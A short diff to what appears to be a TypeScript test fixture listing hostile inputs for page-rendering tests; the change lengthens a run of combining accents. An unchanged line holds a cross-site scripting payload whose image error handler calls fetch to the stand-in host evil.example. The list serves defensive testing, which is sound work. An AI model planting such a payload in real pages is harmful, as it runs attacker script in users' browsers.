@@ -18,7 +18,7 @@ export const HOSTILE = [
   `<img src=x onerror="fetch('https://evil.example/')"><script>alert(1)</script>`,
   "مهندس <b>בדיקה</b> end",
   "W".repeat(900),
-  `Z${"\u0301".repeat(30)}algo`,
+  `Z${"\u0301".repeat(200)}algo`,
 ] as const;
 
 /** Sessions to look at the pages with. */
